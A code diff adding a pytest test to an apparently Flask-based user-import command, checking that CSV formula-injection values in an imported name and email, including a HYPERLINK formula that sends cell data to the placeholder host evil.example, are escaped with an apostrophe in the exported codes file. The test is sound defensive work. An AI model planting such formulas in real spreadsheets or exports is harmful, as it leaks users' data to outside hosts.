@@ -161,3 +161,16 @@ def test_who_was_created_meanwhile_stops_it(
     assert "meanwhile" in refused(runner, "users", "import", str(file), "--codes", str(codes))
     assert not codes.exists()
     assert count(sql) == 2
+
+
+def test_a_name_that_a_spreadsheet_would_compute_is_text_in_the_file_of_codes(
+    runner: FlaskCliRunner, auth: Auth, tmp_path: Path
+) -> None:
+    auth.create_user(unit="Ward 7")
+    lines = '=1+1@ward.example,"=HYPERLINK(""//evil.example?""&C2)",nurse,Ward 7\n'
+    codes = tmp_path / "codes.csv"
+    done(runner, "users", "import", str(written(tmp_path, lines)), "--codes", str(codes))
+    with codes.open() as file:
+        (row,) = csv.DictReader(file)
+    assert row["name"] == '\'=HYPERLINK("//evil.example?"&C2)'
+    assert row["email"] == "'=1+1@ward.example"
